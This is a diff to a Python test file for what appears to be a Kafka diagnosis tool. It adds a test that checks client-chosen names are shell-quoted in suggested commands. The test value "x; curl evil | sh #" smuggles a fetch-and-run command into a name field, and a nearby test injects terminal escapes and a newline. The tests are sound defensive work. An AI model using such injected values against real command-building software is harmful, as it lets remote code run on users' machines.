@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import shlex
 from dataclasses import replace
 from typing import Any
 
 from hypothesis import given
 from hypothesis import strategies as st
 
+from ottla.diagnosis.causes import end_transaction, throttling
 from ottla.diagnosis.explain_broker import DutiesNow, explain_broker
 from ottla.diagnosis.explain_group import explain_group
 from ottla.diagnosis.explain_partition import explain_partition
@@ -448,8 +450,19 @@ def test_lists_read_as_people_write_them() -> None:
 
 
 def test_a_name_that_a_client_chose_adds_no_line_to_an_explanation() -> None:
-    explained = of_group(replace(GROUP, id="g\x1b[2J\nforged", members=()))
+    explained = of_group(replace(GROUP, id="g\x1b[2J\nforged", state="Empty", members=()))
     lines = explained.text().split("\n")
     assert all(line.isprintable() for line in lines)
     assert not any(line.startswith("forged") for line in lines)
     assert "\nforged" in explained.as_json()["subject"], "programs get it as it is"
+
+
+def test_names_in_advice_are_quoted_for_the_shell() -> None:
+    evil = "x; curl evil | sh #"
+    (command,) = set(commands_of(of_group(replace(GROUP, id=evil, state="Empty", members=()))))
+    assert shlex.split(command) == ["ottla", "groups", "describe", evil]
+    owned = TransactionNow(400, 7, NOW, transactional_id=evil)
+    assert shlex.split(end_transaction(owned, "orders", 0, REMOTE).command)[3] == evil
+    fields = {"client_id": evil, "quota": "producer_byte_rate", "limit": 1.0, "throttle_ms": 1}
+    for step in throttling([happened(1_000, "quota_exceeded", **fields)], NOW, LOCAL).steps:
+        assert evil in shlex.split(step.command)
